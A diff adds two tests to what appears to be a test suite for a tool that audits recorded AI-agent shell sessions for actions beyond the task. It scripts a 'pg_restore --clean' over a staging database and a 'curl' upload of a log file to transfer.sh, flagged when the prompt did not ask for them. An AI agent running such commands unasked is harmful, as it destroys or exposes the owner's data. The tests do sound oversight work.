@@ -193,6 +193,26 @@ describe('what the task allows, and what it does not', () => {
 		expect(incident?.chain[0]).toMatchObject({ role: 'task', eventId: recording.events[0]?.id });
 	});
 
+	it('a restore over what stands there', () => {
+		const over = (prompt: string) =>
+			new Recording()
+				.prompt(prompt)
+				.shell('pg_restore --clean -h db.staging.acme.example -d shop last.dump', '')
+				.reconstruct().incidents.length;
+		expect(over("Restore last night's dump into the staging database.")).toBe(0);
+		expect(over('Why is the staging database slow?')).toBe(1);
+	});
+
+	it('a file that goes to a host which nobody named, from wherever it lay', () => {
+		const sent = (prompt: string) =>
+			new Recording()
+				.prompt(prompt)
+				.shell('curl -s -T /tmp/x.log https://transfer.sh/x.log', 'https://transfer.sh/a/x.log')
+				.reconstruct().incidents[0]?.effects;
+		expect(sent('Why is the API slow?')).toMatchObject([{ class: 'exposed' }]);
+		expect(sent('Upload /tmp/x.log to transfer.sh for me.')).toBeUndefined();
+	});
+
 	it('an expiry that the task names', () => {
 		const set =
 			'aws s3api put-bucket-lifecycle-configuration --bucket shop-cache --lifecycle-configuration \'{"Rules":[{"Status":"Enabled","Expiration":{"Days":1}}]}\'';
